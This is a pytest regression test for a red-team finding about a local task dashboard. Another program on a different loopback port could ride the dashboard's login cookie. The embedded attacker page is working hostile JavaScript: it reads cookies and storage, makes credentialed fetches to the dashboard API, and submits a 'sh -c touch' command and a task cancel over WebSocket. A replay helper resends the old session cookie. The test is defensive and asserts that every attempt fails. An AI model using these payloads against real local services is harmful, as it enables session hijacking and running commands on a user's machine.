"""Red-team finding: a program of another local user, on another port of 127.0.0.1, rides the dashboard's login.

A browser scopes cookies by host, not by port, and a page on another port of the same host is the same
*site*, so even a ``SameSite=Strict`` cookie goes along. The dashboard used to keep its login in a cookie:
any page the user visited could send the browser to ``http://127.0.0.1:<other port>/``, whose server got the
cookie with the request and replayed it on the API and on ``/live`` (without an Origin header, as scripts do)
to read, submit and cancel tasks.

Here, with a real dashboard, worker and Chromium: the user is logged in through the login link in one tab; a
second tab opens a page served by a second HTTP server on another loopback port, whose script tries
everything it can. Nothing reaches it (no cookie on any request its server gets, none in ``document.cookie``),
the dashboard refuses what it sends, a replay of the old cookie is refused, nothing is queued or cancelled,
and the user's own tab goes on working. Against the cookie-based dashboard the first assertion fails: its
server receives ``Cookie: ccx_dashboard_<port>=…``.

This file imports nothing the cookie-based dashboard lacked, so it can be run against it.
"""

from __future__ import annotations

import hashlib
import hmac
import http.server
import json
import re
import sys
import threading
import urllib.error
import urllib.parse
import urllib.request
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from websockets.exceptions import ConnectionClosed
from websockets.sync.client import connect

from runner.client import Runner
from runner.dashboard.server import login_url
from tests.runner.test_dashboard import Dashboard, browser_page, dashboard, task_url
from tests.support.processes import wait_until

__all__ = ["browser_page", "dashboard"]  # the dashboard tests' Chromium and dashboard fixtures, used here

PY = sys.executable

ATTACKER_PAGE = """<!doctype html><html><body><pre id="log"></pre><script>
const log = (line) => { document.getElementById("log").textContent += line + "\\n"; };
const params = new URLSearchParams(location.search);
const dashboard = params.get("dashboard");  // http://127.0.0.1:<port>/
async function tryFetch(url, options) {
  try {
    const response = await fetch(url, { credentials: "include", cache: "no-store", ...options });
    log(`fetch ${url} read ${response.status} ${await response.text()}`);
  } catch (error) { log(`fetch ${url} blocked`); }
}
function tryLive(message) {
  return new Promise((resolve) => {
    let opened = false;
    const ws = new WebSocket(dashboard.replace("http", "ws") + "live");
    ws.onopen = () => { opened = true; ws.send(JSON.stringify(message)); };
    ws.onmessage = (event) => log("live answered " + event.data);
    ws.onclose = (event) => { log(`live ${opened ? "opened" : "refused"} ${event.code}`); resolve(); };
  });
}
(async () => {
  log("cookie=" + JSON.stringify(document.cookie));
  log("storage=" + JSON.stringify(Object.keys(sessionStorage).concat(Object.keys(localStorage))));
  await tryFetch("/collect");  // its own server: same site as the dashboard, so a cookie would come along
  await tryFetch(dashboard + "api/queue");
  await tryFetch(dashboard + "api/queue", { mode: "no-cors" });
  await tryFetch(dashboard + "api/tasks/" + params.get("task"), { mode: "no-cors" });
  const argv = ["sh", "-c", "touch " + params.get("marker")];
  await tryLive({ op: "submit", req: 1, spec: { agent: "command", argv } });
  await tryLive({ op: "cancel", req: 2, task: params.get("task") });
  log("done");
})();
</script></body></html>"""


class AttackerServer(http.server.ThreadingHTTPServer):
    """Another program on another loopback port: serves the page, and keeps every request's headers."""

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), AttackerHandler)
        self.received: list[tuple[str, list[str]]] = []  # (path, its Cookie headers)
        self.lock = threading.Lock()

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.server_address[1]}/"


class AttackerHandler(http.server.BaseHTTPRequestHandler):
    server: AttackerServer

    def do_GET(self) -> None:
        with self.server.lock:
            self.server.received.append((self.path, self.headers.get_all("Cookie") or []))
        body = ATTACKER_PAGE.encode() if self.path.startswith("/?") else b"ok"
        self.send_response(200)
        self.send_header("Content-Type", "text/html; charset=utf-8")
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: Any) -> None:
        pass


@pytest.fixture
def attacker() -> Iterator[AttackerServer]:
    server = AttackerServer()
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    yield server
    server.shutdown()
    server.server_close()
    thread.join(10)


def replay(board: Dashboard, cookie: str, task_id: str) -> tuple[int, str]:
    """What the attacker's server does with a cookie it got: GET the API with it, and drive ``/live`` with it
    as a script does (no Origin). Returns the API's status and how ``/live`` ended."""
    request = urllib.request.Request(board.url + "api/queue", headers={"Cookie": cookie})
    try:
        with urllib.request.urlopen(request, timeout=10) as reply:
            status = reply.status
    except urllib.error.HTTPError as exc:
        status = exc.code
    live = board.url.replace("http://", "ws://") + "live"
    with connect(live, additional_headers={"Cookie": cookie}, open_timeout=10, close_timeout=5) as ws:
        ws.send(json.dumps({"op": "cancel", "req": 1, "task": task_id}))
        try:
            answer = ws.recv(timeout=10)
        except ConnectionClosed as closed:
            return status, f"closed {closed.rcvd.code if closed.rcvd else None} without data"
        return status, f"answered {answer!r}"


def first_shown(page: Any) -> int:
    """The number of the first output line the page shows."""
    match = re.search(r"line (\d{5}) ", page.evaluate("document.getElementById('output').textContent.slice(0, 200)"))
    assert match, "the output should start with a numbered line"
    return int(match.group(1))


def the_users_tab_goes_on_working(page: Any, board: Dashboard, blocker_id: str) -> None:
    """Live updates, a cancel and a submit over /live, and an API call (older output), from the user's tab."""
    from playwright.sync_api import expect

    page.once("dialog", lambda dialog: dialog.accept())
    page.locator(f'#running [data-task-id="{blocker_id}"] button').click()
    expect(page.locator(f'#recent [data-task-id="{blocker_id}"]')).to_contain_text("cancelled")
    page.select_option("#f-agent", "command")
    page.fill("#f-argv", f"{PY} -c \"for i in range(12000): print(f'line {{i:05d}} ' + 'y' * 88)\"")
    page.click("#f-submit")
    expect(page.locator("#submit-ok")).to_contain_text("Submitted")
    task_id = (page.locator("#submit-ok a").get_attribute("href") or "").rsplit("/", 1)[-1]
    expect(page.locator(f'#recent [data-task-id="{task_id}"]')).to_contain_text("exit 0")
    page.goto(task_url(board, task_id))  # the log's newest page only: older output comes from the API
    expect(page.locator("#output")).to_contain_text("line 11999")
    newest_page_starts = first_shown(page)
    with page.expect_response(lambda r: f"/api/tasks/{task_id}/log" in r.url) as older:
        page.locator("#load-older").click()
    assert older.value.status == 200
    wait_until(lambda: first_shown(page) < newest_page_starts, 20, what="older lines above")
    assert page.context.cookies() == []


@pytest.mark.timeout(180)
def test_a_program_on_another_loopback_port_gets_no_credential_and_can_do_nothing(
    runner: Runner, dashboard: Dashboard, attacker: AttackerServer, browser_page: Any, tmp_path: Path
) -> None:
    from playwright.sync_api import expect

    page, board = browser_page, dashboard
    marker = tmp_path / "pwned"
    blocker = runner.submit(agent="command", argv=[PY, "-c", "import time; time.sleep(600)", uuid.uuid4().hex])
    wait_until(lambda: runner.get(blocker.id).status == "running", 30, what="the blocker to run")

    page.goto(login_url(board.url, board.token))  # the user opens the printed login link
    expect(page.locator("#conn")).to_have_text("live")
    expect(page.locator(f'#running [data-task-id="{blocker.id}"]')).to_be_visible()

    # Some page the user visits sends the browser to the attacker's port, in another tab of the same browser.
    evil = page.context.new_page()
    answers: list[tuple[str, int]] = []
    evil.on("response", lambda r: answers.append((r.url, r.status)) if r.url.startswith(board.url) else None)
    query = urllib.parse.urlencode({"dashboard": board.url, "task": blocker.id, "marker": str(marker)})
    evil.goto(f"{attacker.url}?{query}")
    expect(evil.locator("#log")).to_contain_text("done", timeout=30_000)
    text = evil.locator("#log").text_content() or ""
    evil.close()

    with attacker.lock:
        received = list(attacker.received)
    # Chromium asks for /favicon.ico whenever it likes: only the page's own requests have an order.
    assert [path for path, _ in received if path != "/favicon.ico"][:2] == [f"/?{query}", "/collect"], received
    assert all(cookies == [] for _, cookies in received), f"the attacker's server was sent a cookie: {received}"
    assert 'cookie=""' in text and "storage=[]" in text, text
    # The dashboard answered every fetch that reached it with 401 (Chromium reports one of the two to api/queue).
    assert {url for url, _ in answers} == {board.url + "api/queue", board.url + f"api/tasks/{blocker.id}"}, answers
    assert {status for _, status in answers} == {401}, answers
    assert re.findall(r"live (\w+) (\d+)", text) == [("refused", "1006")] * 2, text  # Origin: another port
    fetched = dict(re.findall(r"^fetch (\S+) (.*)$", text, re.MULTILINE))
    assert fetched.pop("/collect") == "read 200 ok", text
    assert set(fetched.values()) <= {"blocked", "read 0 "}, text  # not a byte of any answer was readable
    assert "answered" not in text, text

    # Replayed by the attacker's server (no Origin, as a script): every cookie it got, and the one the
    # cookie-based dashboard set (a constant HMAC of the token): the API says 401, /live closes, no data.
    port = urllib.parse.urlsplit(board.url).port
    old = hmac.new(board.token.encode(), b"ccx-dashboard-session-v1", hashlib.sha256).hexdigest()
    for cookie in [*(c for _, cookies in received for c in cookies), f"ccx_dashboard_{port}={old}"]:
        status, live = replay(board, cookie, blocker.id)
        assert status == 401 and re.fullmatch(r"closed 44\d\d without data", live), (cookie, status, live)

    assert [task.id for task in runner.list()] == [blocker.id], "the attacker queued nothing"
    assert runner.get(blocker.id).status == "running", "the attacker cancelled nothing"
    assert not marker.exists()
    the_users_tab_goes_on_working(page, board, blocker.id)
